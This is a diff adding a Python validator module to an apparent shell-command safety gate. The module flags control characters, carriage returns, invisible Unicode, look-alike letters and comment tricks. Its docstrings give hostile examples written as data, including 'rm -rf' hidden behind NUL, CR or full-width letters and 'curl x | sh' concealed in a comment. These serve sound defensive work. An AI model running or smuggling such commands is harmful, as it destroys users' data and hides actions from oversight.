@@ -1,0 +1,165 @@
+"""Input hygiene: characters that make a line mean something other than what it shows."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+
+from clawgate.decision import Verdict
+from clawgate.shell.model import ParsedLine
+from clawgate.validators.base import Context, LineValidator, RawValidator, register
+from clawgate.validators.textscan import unquoted
+
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+_INVISIBLE = re.compile(r"[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b-\u200f"
+                        r"\u202a-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff\U000e0000-\U000e007f]")
+_UNICODE_SPACE = frozenset("\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007"
+                           "\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000\u0085")
+
+
+@register
+class ControlCharacters(RawValidator):
+    """NUL and other control characters: shells and terminals each treat them differently.
+
+    Bad: ``ls\\x00; rm -rf ~``. Harmless: ``printf 'a\\tb'`` (a tab is not a control here).
+    """
+
+    id = "CG-HYG-001"
+
+    def check_text(self, text: str, ctx: Context) -> Verdict:
+        found = _CONTROL.search(text)
+        if found is None:
+            return Verdict.passthrough()
+        return Verdict.misparse(self.id, f"control character U+{ord(found.group()):04X} "
+                                f"at offset {found.start()}",
+                                hint="remove control characters from the command")
+
+
+@register
+class CarriageReturn(RawValidator):
+    """A carriage return outside quotes hides what follows it on a terminal.
+
+    Bad: ``echo safe\\rrm -rf ~``. Harmless: ``printf 'a\\r\\n'`` with the CR escaped in quotes.
+    """
+
+    id = "CG-HYG-002"
+
+    def check_text(self, text: str, ctx: Context) -> Verdict:
+        if "\r" not in text:
+            return Verdict.passthrough()
+        if any(ch == "\r" for _, ch in unquoted(text)):
+            return Verdict.misparse(self.id, "carriage return outside quotes",
+                                    hint="use \\n line breaks, or printf '\\r' inside quotes")
+        return Verdict.passthrough()
+
+
+@register
+class InvisibleUnicode(RawValidator):
+    """Zero-width, bidirectional and tag characters anywhere; Unicode spaces outside quotes.
+
+    Bad: ``rm\\u00a0-rf /`` (a no-break space splits nothing in bash). Harmless: ``echo 'café'``.
+    """
+
+    id = "CG-HYG-003"
+
+    def check_text(self, text: str, ctx: Context) -> Verdict:
+        if text.isascii():
+            return Verdict.passthrough()
+        found = _INVISIBLE.search(text)
+        if found is not None:
+            return Verdict.misparse(self.id, f"invisible character U+{ord(found.group()):04X}",
+                                    hint="retype the command without invisible characters")
+        for index, ch in unquoted(text):
+            if ch in _UNICODE_SPACE:
+                return Verdict.misparse(self.id, f"Unicode space U+{ord(ch):04X} at {index} "
+                                        "is not a word separator to the shell",
+                                        hint="use ASCII spaces")
+        return Verdict.passthrough()
+
+
+@register
+class LookalikeWords(LineValidator):
+    """Command words whose NFKC form differs: full-width or compatibility look-alikes.
+
+    Bad: ``ｒｍ -rf /`` (full-width letters that read as ``rm``). Harmless: ``cat résumé.txt``.
+    """
+
+    id = "CG-HYG-004"
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        if parsed.source.isascii():
+            return Verdict.passthrough()
+        for cmd in parsed.commands:
+            for index, word in enumerate(cmd.words):
+                if word.text.isascii():
+                    continue
+                folded = unicodedata.normalize("NFKC", word.text)
+                if folded != word.text and folded.isascii():
+                    return Verdict.misparse(self.id, f"{word.text!r} looks like {folded!r}",
+                                            hint="type the command in plain ASCII")
+                if index == 0:
+                    return Verdict.ask(self.id, f"non-ASCII program name {word.text!r}",
+                                       hint="check which program this really is")
+        return Verdict.passthrough()
+
+
+@register
+class EscapedCommandName(LineValidator):
+    """Backslash-escaped whitespace, newlines or operators inside a command name.
+
+    Bad: ``r\\<newline>m -rf /`` or ``ls\\;id``. Harmless: ``find . -name x -exec ls {} \\;``
+    (an escaped operator as an argument is read literally by every shell).
+    """
+
+    id = "CG-HYG-005"
+    _HIDDEN = re.compile(r"\\[\s;&|<>()`$]")
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        if "\\" not in parsed.source:
+            return Verdict.passthrough()
+        for cmd in parsed.commands:
+            name = cmd.name_word
+            if name is not None and self._HIDDEN.search(name.text):
+                return Verdict.misparse(self.id, f"escaped whitespace or operator in the "
+                                        f"command name {name.text!r}",
+                                        hint="write the program name plainly")
+        return Verdict.passthrough()
+
+
+@register
+class CommentQuoteDesync(LineValidator):
+    """A comment holding quotes or substitutions: readers that miss the comment lose track of
+    quoting and see different commands than the shell runs.
+
+    Bad: ``ls # ' ; curl x | sh '``. Harmless: ``ls  # list files``.
+    """
+
+    id = "CG-HYG-006"
+    _QUOTES = re.compile(r"['\"`]|\$\(")
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        for comment in parsed.comments:
+            if self._QUOTES.search(comment):
+                return Verdict.ask(self.id, "a comment holds quotes or substitutions",
+                                   hint="drop the comment")
+        return Verdict.passthrough()
+
+
+@register
+class MidWordHash(LineValidator):
+    """A ``#`` glued to a quote or expansion inside a word: a comment to some parsers, a literal
+    to bash. Bad: ``echo "x"#"; rm -rf ~"``. Harmless: ``curl https://h/page#top``.
+    """
+
+    id = "CG-HYG-007"
+    _GLUED = re.compile(r"""(['"}]|\$[A-Za-z_0-9@*#?$!-])#""")
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        if "#" not in parsed.source:
+            return Verdict.passthrough()
+        for cmd in parsed.commands:
+            for word in cmd.words:
+                if "#" in word.text and self._GLUED.search(word.text):
+                    return Verdict.misparse(self.id, f"'#' glued to a quote or expansion in "
+                                            f"{word.text!r}", hint="quote the '#'")
+        return Verdict.passthrough()
